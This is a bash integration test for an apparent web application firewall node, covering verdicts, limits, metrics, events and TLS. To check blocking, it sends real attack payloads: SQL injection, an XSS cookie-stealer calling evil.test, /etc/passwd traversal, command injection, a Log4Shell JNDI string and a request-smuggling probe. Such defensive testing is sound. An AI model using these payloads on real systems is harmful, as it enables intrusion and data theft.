#!/usr/bin/env bash
# node-protocol.sh -- edgenode (ASan build) over HTTP with the shipped rules: protocol v1 statuses
# and bodies, async, response reports, limits (verdicts past them, 400), metrics, events and TLS.
set -u
cd "$(dirname "$0")/../.."
. tests/node/lib.sh
trap finish EXIT

P=$(free_port); A=$(free_port)
cat >"$TMP/node.yaml" <<YAML
listen: 127.0.0.1:$P
admin_listen: 127.0.0.1:$A
mode: block
application: 7
allowed_hosts: ["*.example.com", "127.0.0.1"]
rules: $RULES
events: $TMP/events.jsonl
limits: {max_header_size: 8k, max_body_size: 64k}
routes:
  - host: "*.example.com"
    path: /public
    application: 9
    mode: monitoring
YAML
start_node "$TMP/node.yaml" "$TMP/node.log" || exit 1
U="http://127.0.0.1:$P"
H=(-H "X-Forwarded-Host: api.example.com" -H "X-Connector: cloudflare/1.0.0" -H "X-Connector-Mode: inline")

# pass and block, with the JSON body the connector may read
b=$(body "$U/users?id=42&sort=name" "${H[@]}" -H "X-Connector-Request-Id: 0a1b2c")
check "benign GET: body" '{"verdict":"pass","request_id":"0a1b2c"}' "$b"
check "benign JSON POST" 200 "$(status "$U/orders" "${H[@]}" -H 'Content-Type: application/json' \
  --data '{"item":"book","qty":2,"note":"please deliver before noon"}')"
b=$(body "$U/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--" "${H[@]}" \
  -H "X-Connector-Request-Id: feed01")
contains "SQLi in query: verdict block" '"verdict":"block"' "$b"
contains "SQLi in query: class" '"class":"sqli"' "$b"
contains "SQLi in query: where" '"where":"query.q"' "$b"
check "SQLi in query: status" 403 "$(status "$U/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--" "${H[@]}")"
check "XSS in JSON body" 403 "$(status "$U/comments" "${H[@]}" -H 'Content-Type: application/json' \
  --data '{"comment":"<script>document.location=\"http://evil.test/?c=\"+document.cookie</script>"}')"
check "path traversal" 403 "$(status "$U/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd" "${H[@]}")"
check "OS command injection in form" 403 "$(status "$U/ping" "${H[@]}" --data 'host=127.0.0.1;cat /etc/passwd')"
check "Log4Shell in a header" 403 "$(status "$U/" "${H[@]}" -H 'X-Api-Version: ${jndi:ldap://evil.test/a}')"
check "route in monitoring: attack passes" 200 "$(status "$U/public/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" "${H[@]}")"

# async copies and response reports
check "async attack: 204" 204 "$(status "$U/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" \
  -H "X-Forwarded-Host: api.example.com" -H "X-Connector-Mode: async")"
check "async benign: 204" 204 "$(status "$U/users" -H "X-Forwarded-Host: api.example.com" -H "X-Connector-Mode: async")"
for s in 200 201 404 502 503; do
  status "$U/users" "${H[@]}" -H "X-Connector-Message: response" -H "X-Connector-Response-Status: $s" >/dev/null
done
check "response report answered 200" 200 "$(status "$U/x" "${H[@]}" -H "X-Connector-Message: response" -H "X-Connector-Response-Status: 500")"

# hosts and HTTP limits
check "host outside allowed_hosts: 415" 415 "$(status "$U/search?q=1%27%20UNION%20SELECT%201--" -H "X-Forwarded-Host: evil.test")"
contains "415 body names the host" '"host":"evil.test"' "$(body "$U/" -H "X-Forwarded-Host: evil.test")"
head -c 70000 /dev/zero | tr '\0' 'a' >"$TMP/big"
check "body over max_body_size: a verdict naming the limit" '{"verdict":"pass","reason":"oversize","limits":["body"]}' \
  "$(body "$U/upload" "${H[@]}" --data-binary @"$TMP/big")"
check "chunked body over the limit: a verdict" 200 "$(status "$U/upload" "${H[@]}" -H 'Transfer-Encoding: chunked' --data-binary @"$TMP/big")"
check "attack within max_body_size of a larger body: 403" 403 "$(status "$U/upload" "${H[@]}" \
  --data-binary "host=127.0.0.1;cat /etc/passwd&pad=$(head -c 70000 /dev/zero | tr '\0' 'p')")"
long=$(head -c 12000 /dev/zero | tr '\0' 'b')
check "header line over max_header_line: a verdict naming the limits" '{"verdict":"pass","reason":"oversize","limits":["header_line","headers"]}' \
  "$(body "$U/" "${H[@]}" -H "X-Long: $long")"
raw=$( (exec 3<>"/dev/tcp/127.0.0.1/$P"; printf 'GET / HTTP/1.1\r\nHost: a\r\nBad Header Line\r\n\r\n' >&3; timeout 5 head -1 <&3) 2>/dev/null)
contains "malformed request: 400" "400" "$raw"
raw=$( (exec 3<>"/dev/tcp/127.0.0.1/$P"; printf 'GET / HTTP/1.1\r\n\r\n' >&3; timeout 5 head -1 <&3) 2>/dev/null)
contains "HTTP/1.1 without Host: 400" "400" "$raw"
check "still serving after bad requests" 200 "$(status "$U/users" "${H[@]}")"
raw=$( (exec 3<>"/dev/tcp/127.0.0.1/$P"; printf 'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab' >&3; timeout 5 cat <&3) 2>/dev/null)
contains "two Content-Lengths (request smuggling): 400" "HTTP/1.1 400" "$raw"
contains "... with a JSON error" '{"error":"malformed request (Duplicate Content-Length)"}' "$raw"
contains "... and the connection closed" "Connection: close" "$raw"
check "HEAD then GET on one connection: HEAD answered without its body" "200 200 no-body" \
  "$(python3 tests/node/client.py head_then_get "$P")"
check "half-closed client (shut its sending side after two requests): both answered, then closed" "2 eof" \
  "$(python3 tests/node/client.py half_close "$P")"
raw=$( (exec 3<>"/dev/tcp/127.0.0.1/$P"
  printf 'GET /users HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\nGET /users HTTP/1.1\r\nHost: api.example.com\r\n\r\n' >&3
  timeout 5 cat <&3) 2>/dev/null)
check "a request after Connection: close is not read: one answer, then the end" 1 "$(grep -c '^HTTP/1.1 ' <<<"$raw")"
check "a client that never reads its answers: the node stops reading it" "bounded" \
  "$(python3 tests/node/client.py stalled_reader "$P")"
python3 tests/node/client.py reset_mid "$P" 3000 >/dev/null
check "a reset while 3000 pipelined answers are sent: still serving" 200 "$(status "$U/users" "${H[@]}")"
check "HTTP/1.0 keep-alive: answered with Connection: keep-alive" "keep-alive" \
  "$(curl -s -o /dev/null -D - --http1.0 -H 'Connection: keep-alive' --max-time 5 "$U/users" | tr -d '\r' | sed -n 's/^Connection: //p')"
check "400s counted" 3 "$(metric "$A" 'edgenode_http_errors_total{status="400"}')"

# admin listener
check "/live" 200 "$(status "http://127.0.0.1:$A/live")"
check "/ready" 200 "$(status "http://127.0.0.1:$A/ready")"
check "admin unknown path: 404" 404 "$(status "http://127.0.0.1:$A/nope")"
check "metrics: 5xx reports" 3 "$(metric "$A" 'edgenode_response_status_total{class="5xx"}')"
check "metrics: 2xx reports" 2 "$(metric "$A" 'edgenode_response_status_total{class="2xx"}')"
check "metrics: 4xx reports" 1 "$(metric "$A" 'edgenode_response_status_total{class="4xx"}')"
check "metrics: async messages" 2 "$(metric "$A" 'edgenode_requests_total{type="async",mode="block"}')"
check "metrics: blocked by attack" 7 "$(metric "$A" 'edgenode_blocked_total{reason="attack"}')"
check "metrics: rejected by host" 2 "$(metric "$A" 'edgenode_rejected_total{reason="host"}')"
check "metrics: sqli attacks on app 7" 3 "$(metric "$A" 'edgenode_attacks_total{class="sqli",application="7"}')"
check "metrics: sqli attacks on app 9 (route)" 1 "$(metric "$A" 'edgenode_attacks_total{class="sqli",application="9"}')"
check "metrics: body limit counted" 3 "$(metric "$A" 'edgenode_limits_total{reason="body"}')"
check "metrics: header line limit counted" 1 "$(metric "$A" 'edgenode_limits_total{reason="header_line"}')"
m=$(curl -s "http://127.0.0.1:$A/metrics")
contains "metrics: build info" 'edgenode_build_info{version=' "$m"
contains "metrics: latency histogram" 'edgenode_analysis_seconds_bucket{le="+Inf"}' "$m"
contains "metrics: process CPU" 'process_cpu_seconds_total' "$m"
contains "metrics: resident memory" 'process_resident_memory_bytes' "$m"
missing=""
for name in $(grep -o '\(edgenode\|process\)_[a-z_]*' node/dashboard.json | sort -u); do
  echo "$m" | grep -q "^$name[{ ]" || missing="$missing $name"
done
check "dashboard: every metric it queries is exported" "" "$missing"
# every panel has a title and a query, and no two share a title (the count grows with the metrics)
check "dashboard: valid JSON, every panel titled and queried once" 0 \
  "$(jq '[.panels[] | select((.title // "") == "" or ((.targets // []) | length) == 0)] | length' node/dashboard.json)"
check "dashboard: no two panels share a title" 0 "$(jq '[.panels[].title] | length - (unique | length)' node/dashboard.json)"

# events: one JSON line per attack with every field
ev="$TMP/events.jsonl"
line=$(grep '"request_id":"feed01"' "$ev" | head -1)
check "event: valid JSON with all fields" "true" "$(echo "$line" | jq -c 'has("time") and has("request_id") and has("connector") and has("application") and has("host") and has("client") and has("class") and has("rule") and has("where") and has("verdict")')"
check "event: fields" "feed01 cloudflare/1.0.0 7 api.example.com 127.0.0.1 sqli query.q blocked" \
  "$(echo "$line" | jq -r '[.request_id,.connector,.application,.host,.client,.class,.where,.verdict]|join(" ")')"
check "event: monitoring route recorded as passed" "passed" "$(jq -r 'select(.application==9)|.verdict' "$ev" | head -1)"
check "event: async recorded" "async" "$(jq -r 'select(.type=="async")|.type' "$ev" | head -1)"
check "events: every line is JSON" 0 "$(jq -c . "$ev" >/dev/null 2>&1; echo $?)"

stop_node "$NODE_PID"; check "SIGTERM: exit 0" 0 "$STOP_RC"
if grep -q 'ERROR: \(Address\|Leak\)Sanitizer\|runtime error' "$TMP/node.log"; then bad "sanitizers clean" "$(cat "$TMP/node.log")"; else ok "sanitizers clean"; fi

# TLS
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMP/key.pem" -out "$TMP/cert.pem" -days 2 \
  -subj /CN=127.0.0.1 >/dev/null 2>&1
P2=$(free_port)
cat >"$TMP/tls.yaml" <<YAML
listen: 127.0.0.1:$P2
mode: block
rules: $RULES
tls: {cert: cert.pem, key: key.pem}
YAML
start_node "$TMP/tls.yaml" "$TMP/tls.log" || exit 1
check "TLS: benign 200" 200 "$(status "https://127.0.0.1:$P2/users" -k)"
check "TLS: attack 403" 403 "$(status "https://127.0.0.1:$P2/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" -k)"
check "TLS: plain HTTP refused" 000 "$(status "http://127.0.0.1:$P2/users")"
out=$( (printf 'GET /users HTTP/1.1\r\nHost: a\r\n\r\n'; sleep 1; echo R; sleep 1) |
  timeout 8 openssl s_client -connect "127.0.0.1:$P2" -tls1_2 2>&1)
contains "TLS 1.2: a request answered" '{"verdict":"pass"}' "$out"
contains "... then a client-initiated renegotiation refused" "no renegotiation" "$out"
check "TLS: still serving after it" 200 "$(status "https://127.0.0.1:$P2/users" -k)"
stop_node "$NODE_PID"; check "TLS: SIGTERM exit 0" 0 "$STOP_RC"
echo "not a certificate" >"$TMP/junk.pem"
sed 's/cert: cert.pem/cert: junk.pem/' "$TMP/tls.yaml" >"$TMP/tls-bad.yaml"
out=$("$NODE_BIN" --config "$TMP/tls-bad.yaml" 2>&1); rc=$?
check "TLS: unreadable certificate refused at start" 1 "$rc"
contains "TLS: the error names the key and file" "tls.cert: $TMP/junk.pem holds no PEM certificate" "$out"
out=$("$NODE_BIN" --check-config "$TMP/tls-bad.yaml" 2>&1); rc=$?
check "TLS: --check-config reads the certificate too" 1 "$rc"
contains "TLS: --check-config names the file" "holds no PEM certificate" "$out"
